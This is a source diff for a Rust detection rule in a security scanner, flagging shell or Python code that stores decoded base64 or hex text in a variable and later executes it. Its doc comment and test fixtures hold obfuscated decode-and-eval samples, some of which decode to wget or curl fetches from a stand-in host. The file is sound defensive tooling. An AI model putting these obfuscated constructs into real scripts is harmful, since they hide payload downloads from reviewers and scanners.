@@ -1,0 +1,136 @@
+//! Decoded text run through a variable: `X=$(echo … | base64 -d)` then `eval "$X"`, or
+//! `code = base64.b64decode(s)` then `exec(code)`. SK520 sees a decode piped straight into a
+//! shell; splitting it over two statements must not hide it.
+
+use super::finding;
+use crate::registry::declare_rule;
+use crate::rule::Language;
+use crate::units::Unit;
+use regex::Regex;
+use skillgate_model::{Capability, Confidence, Finding, KillChainStage};
+
+declare_rule! {
+    /// ## What it does
+    /// Follows a variable assigned from a decoding (`base64 -d`, `xxd -r`, `openssl … -d` in a
+    /// shell command substitution; `b64decode`, `unhexlify`, `bytes.fromhex`, `zlib.decompress`,
+    /// `marshal.loads` in Python) to a later statement of the same script or code block that
+    /// executes it: `eval "$X"`, `bash -c "$X"`, `$X` run as a command, `echo "$X" | sh`,
+    /// `source <(echo "$X")`, `python3 -c "$X"`; `exec(x)`, `eval(x)`, `exec(compile(x, …))`.
+    ///
+    /// ## Why is this risky?
+    /// This is decode-then-exec (pattern SC3) with one indirection added to slip past
+    /// line-based scanners. Nothing honest encodes a command only to run it.
+    ///
+    /// ## Example
+    /// `STAGE=$(echo "d2dldCAtcSBodHRwczovL3guZXhhbXBsZS9sLnNv" | base64 -d)` then
+    /// `eval "$STAGE"`
+    pub struct DecodedVariableExecuted { code: "SK522", slug: "decoded-variable-executed", severity: Critical, summary: "a variable holding decoded data is executed" }
+}
+
+crate::pattern::lazy_regex! {
+    SHELL_DECODED = r#"(?m)^[ \t]*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)*)?([A-Za-z_]\w*)=["']?(?:\$\(|`)[^\n]*?(?:\bbase(?:64|32)\s+(?:-\w+\s+)*?(?:-d|-D|--decode)\b|\bxxd\s+(?:-\w+\s+)*?-r\b|\bopenssl\s+(?:enc\s+)?(?:-\w+\s+)*?-d\b)"#;
+    PYTHON_DECODED = r"(?m)^[ \t]*([A-Za-z_]\w*)\s*=\s*[^\n]*\b(?:b64decode|b32decode|b16decode|b85decode|a85decode|urlsafe_b64decode|unhexlify|a2b_base64|a2b_hex|fromhex|decompress|marshal\.loads)\s*\(";
+}
+
+/// The ways a shell runs the text a variable holds.
+fn shell_runs(name: &str) -> Regex {
+    let v = format!(r#"["']?\$\{{?{}\b\}}?["']?"#, regex::escape(name));
+    crate::pattern::compile(&format!(
+        r#"(?m)\beval\s+{v}|\b(?:ba|z|da|k)?sh\s+-c\s+{v}|^[ \t]*{v}[ \t]*(?:$|;|&&|\|\|)|\b(?:echo|printf)\s+(?:-\w+\s+)*{v}\s*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\bsource\s+<\(\s*(?:echo|printf)[^)\n]*\$\{{?{name}\b|\b(?:python[0-9.]*|node|perl|ruby)\s+-[ce]\s+{v}"#,
+        name = regex::escape(name),
+    ))
+    .expect("escaped name")
+}
+
+/// The ways Python runs the text a name holds.
+fn python_runs(name: &str) -> Regex {
+    crate::pattern::compile(&format!(
+        r"\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?{}\b",
+        regex::escape(name)
+    ))
+    .expect("escaped name")
+}
+
+pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
+    for unit in units {
+        let (decoded, runs): (&Regex, fn(&str) -> Regex) = match unit.lang {
+            Language::Shell => (&SHELL_DECODED, shell_runs),
+            Language::Python => (&PYTHON_DECODED, python_runs),
+            _ => continue,
+        };
+        let found = decoded.captures_iter(&unit.text).find_map(|c| {
+            let assignment = c.get(0)?;
+            let name = c.get(1)?.as_str();
+            let after = assignment.end();
+            runs(name)
+                .find(&unit.text[after..])
+                .map(|run| (name.to_string(), after + run.start()))
+        });
+        let Some((name, at)) = found else {
+            continue;
+        };
+        let (line, col) = unit.position(at);
+        let mut f = finding(
+            &DecodedVariableExecuted::INFO,
+            Confidence::High,
+            "obfuscation",
+            format!("`{name}` holds decoded data and is then executed"),
+        )
+        .at(&unit.file, Some(line), Some(col))
+        .with_evidence(unit.line_at(at))
+        .with_capability(Capability::CodeDynamic)
+        .with_stage(KillChainStage::DefenseEvasion);
+        f.taxonomy = vec!["SC3".into()];
+        out.push(f);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn codes(lang: Language, text: &str) -> usize {
+        let mut out = Vec::new();
+        check(&[Unit::new("SKILL.md", lang, text, 1)], &mut out);
+        out.len()
+    }
+
+    #[test]
+    fn decoded_variables_that_run_are_found() {
+        for script in [
+            "X=$(echo -n \"Y3VybCBodHRwczovL3guZXhhbXBsZQ==\" | base64 -d)\neval \"$X\"\n",
+            "STAGE1=$(echo \"d2dldA==\" | base64 --decode)\nSTAGE2=$(echo \"bHM=\" | base64 -d)\neval \"$STAGE1\" && eval \"$STAGE2\"\n",
+            "P=`echo 6c73 | xxd -r -p`\nbash -c \"$P\"\n",
+            "CMD=$(base64 -d payload.b64)\n$CMD\n",
+            "C=$(echo aGk= | base64 -d)\necho \"$C\" | sh\n",
+        ] {
+            assert_eq!(codes(Language::Shell, script), 1, "{script}");
+        }
+        assert_eq!(
+            codes(
+                Language::Python,
+                "import base64\ncode = base64.b64decode(blob).decode()\nexec(code)\n"
+            ),
+            1
+        );
+    }
+
+    #[test]
+    fn decoded_data_that_is_only_used_is_not() {
+        for script in [
+            "IMG=$(base64 -d logo.b64)\necho \"$IMG\" > logo.png\n",
+            "X=$(echo aGk= | base64 -d)\necho \"decoded: $X\"\n",
+            "eval \"$X\"\nX=$(echo aGk= | base64 -d)\n",
+            "CFG=$(base64 -d cfg.b64)\neval \"$(ssh-agent -s)\"\n",
+        ] {
+            assert_eq!(codes(Language::Shell, script), 0, "{script}");
+        }
+        assert_eq!(
+            codes(
+                Language::Python,
+                "data = base64.b64decode(blob)\nresult = json.loads(data)\nexec(other)\n"
+            ),
+            0
+        );
+    }
+}
